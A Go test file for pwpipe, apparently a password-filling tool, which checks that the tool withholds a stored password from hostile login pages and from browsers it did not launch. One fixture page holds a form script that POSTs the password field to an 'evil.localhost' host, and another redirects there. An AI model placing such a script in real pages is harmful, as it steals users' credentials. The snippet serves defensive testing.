package login_test

import (
	"net/http"
	"testing"

	"pwpipe/internal/pipetest"
)

// TestWallOfAProfile: a value is held back in a browser with a profile too. In one that pwpipe did
// not start it is not typed at all.
func TestWallOfAProfile(t *testing.T) {
	pipetest.InCI(t, "it is long, and TestNothingLeaves is quick")
	t.Parallel()
	h := serve(t, map[string]any{
		"shop/away": field + `<button>Log in</button></form>`, "shop/take": to("evil", "/got", 307), "evil/got": "",
		"shop/script": `<form onsubmit="event.preventDefault(); fetch('http://evil.localhost:PORT/got', {method: 'POST', mode: 'no-cors', body: pw.value})">
			<input type=email name=email><input type=password id=pw><button>Log in</button></form>`,
		"shop/login": form, "shop/": form,
	})
	h.pages["shop/login"] = h.takes(form, "/home", isAda)
	h.pages["shop/home"] = func(w http.ResponseWriter, _ *http.Request) { h.html(w, "<h1>Welcome</h1>") }
	toml := shop
	for _, name := range []string{"away", "script"} {
		toml += `[` + name + `]
origin = "http://shop.localhost:PORT"
page = "/` + name + `"
user = "ada@mail.example"
password = "{{SHOP_PASSWORD}}"
`
	}
	p := h.start(toml, "--user-data-dir", pipetest.ProfileDir(t))
	p.Call("nav", []any{h.at("shop") + "/script"})
	for _, login := range []string{"away", "script"} {
		pipetest.Has(t, p.Fail("login", []any{login}), "carries SHOP_PASSWORD, and that is not an origin")
	}
	pipetest.Has(t, p.Call("login", []any{"shop"}), "/home")
	h.quiet()
	addr, _ := pipetest.Chromium(t, "0")
	pipetest.Has(t, h.start(toml, "--cdp", "http://"+addr).Fail("login", []any{"shop"}), "needs a Chromium that pwpipe starts")
}
